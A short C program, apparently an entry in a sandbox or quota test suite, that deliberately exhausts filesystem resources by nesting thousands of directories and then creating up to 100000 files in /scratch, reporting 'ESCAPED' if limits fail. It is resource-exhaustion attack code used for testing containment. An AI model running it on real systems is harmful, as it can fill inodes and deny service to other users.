// SPDX-License-Identifier: MIT
// attack: Makes a million files and folders within folders.
// ends: played|deadline
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	int made = 0;

	while (made < 5000 && mkdir("d", 0700) == 0 && chdir("d") == 0)
		made++;
	for (int i = 0; i < 100000; i++) {
		char name[32];
		snprintf(name, sizeof(name), "/scratch/:%d", i);
		if (mknod(name, S_IFREG | 0600, 0) < 0)
			break;
		made++;
	}
	if (made > 5000)
		puts("ESCAPED: more files than there are inodes");
	puts("made all it could");
	return 0;
}
